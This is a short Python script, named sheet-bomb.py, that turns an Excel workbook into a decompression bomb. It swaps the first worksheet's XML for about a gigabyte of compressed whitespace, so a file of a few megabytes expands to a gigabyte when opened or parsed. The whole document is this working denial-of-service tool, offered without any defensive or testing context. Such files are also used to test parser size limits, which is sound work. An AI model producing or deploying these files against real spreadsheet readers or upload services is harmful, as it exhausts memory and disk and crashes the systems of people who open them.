"""Puts a sheet of a gigabyte into a workbook of a few megabytes: sheet-bomb.py FROM TO"""
import sys
import zipfile

source, target = sys.argv[1:3]
with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
    for name in old.namelist():
        if name != "xl/worksheets/sheet1.xml":
            new.writestr(name, old.read(name))
            continue
        with new.open(name, "w", force_zip64=True) as part:
            part.write(b"<worksheet>")
            for _ in range(1000):
                part.write(b" " * 1_000_000)
            part.write(b"</worksheet>")
